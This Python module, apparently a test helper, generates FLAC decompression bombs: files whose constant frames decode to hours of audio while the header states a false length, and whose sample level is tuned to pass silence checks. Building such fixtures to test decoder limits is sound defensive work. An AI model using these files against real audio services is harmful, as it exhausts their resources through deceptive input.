"""Decompression bombs built byte by byte: a FLAC whose frames each hold 65,535 constant samples.

A FLAC frame with one CONSTANT subframe is about 15 bytes whatever its block size, so an 18 KB file
holds hours of audio and a 4.4 MB one hundreds of hours. Its STREAMINFO can state any length (here:
a plausible minute, or 0, "unknown"), so only counting the frames, or decoding them, tells the truth.
"""

from __future__ import annotations

import struct
from pathlib import Path

BLOCK = 65535  # samples per frame: the most a FLAC frame header can state
RATE = 8000  # a low rate makes more hours of the same frames (sample-rate code 0b0100)
LEVEL = 0x2000  # the constant sample: loud enough that no silence check refuses the file first


def _crc8(data: bytes) -> int:
    crc = 0
    for byte in data:
        crc ^= byte
        for _ in range(8):
            crc = ((crc << 1) ^ 0x07) & 0xFF if crc & 0x80 else (crc << 1) & 0xFF
    return crc


def _crc16(data: bytes) -> int:
    crc = 0
    for byte in data:
        crc ^= byte << 8
        for _ in range(8):
            crc = ((crc << 1) ^ 0x8005) & 0xFFFF if crc & 0x8000 else (crc << 1) & 0xFFFF
    return crc


def _utf8_number(n: int) -> bytes:
    """FLAC's frame number: UTF-8's bit layout extended to 36 bits (here up to 21)."""
    if n < 0x80:
        return bytes([n])
    if n < 0x800:
        return bytes([0xC0 | n >> 6, 0x80 | n & 0x3F])
    if n < 0x10000:
        return bytes([0xE0 | n >> 12, 0x80 | n >> 6 & 0x3F, 0x80 | n & 0x3F])
    return bytes([0xF0 | n >> 18, 0x80 | n >> 12 & 0x3F, 0x80 | n >> 6 & 0x3F, 0x80 | n & 0x3F])


def _frame(number: int) -> bytes:
    header = bytes([0xFF, 0xF8, 0x74, 0x08]) + _utf8_number(number) + struct.pack(">H", BLOCK - 1)
    # 0x74: block size in 16 bits at the end of the header, 8 kHz; 0x08: mono, 16-bit samples.
    header += bytes([_crc8(header)])
    body = header + bytes([0x00]) + struct.pack(">h", LEVEL)  # CONSTANT subframe, no wasted bits
    return body + struct.pack(">H", _crc16(body))


def flac_bomb(path: Path, size: int, stated_seconds: float = 60.0) -> Path:
    """Write a FLAC of about ``size`` bytes of constant frames whose STREAMINFO states
    ``stated_seconds`` (0: unknown); return its path. Decoded, it lasts ~ size / 15 x 65535 / 8000 s."""
    total = round(stated_seconds * RATE)
    info = struct.pack(">HH", BLOCK, BLOCK) + (0).to_bytes(3, "big") + (0).to_bytes(3, "big")
    info += (RATE << 44 | 0 << 41 | 15 << 36 | total).to_bytes(8, "big") + bytes(16)
    out = bytearray(b"fLaC" + bytes([0x80]) + len(info).to_bytes(3, "big") + info)
    number = 0
    while len(out) < size:
        out += _frame(number)
        number += 1
    path.write_bytes(bytes(out))
    return path


def decoded_seconds(path: Path) -> float:
    """How long ``flac_bomb``'s file plays: its frames x 65,535 samples at 8 kHz (none of it decoded)."""
    data = path.read_bytes()
    return data.count(bytes([0xFF, 0xF8, 0x74, 0x08])) * BLOCK / RATE
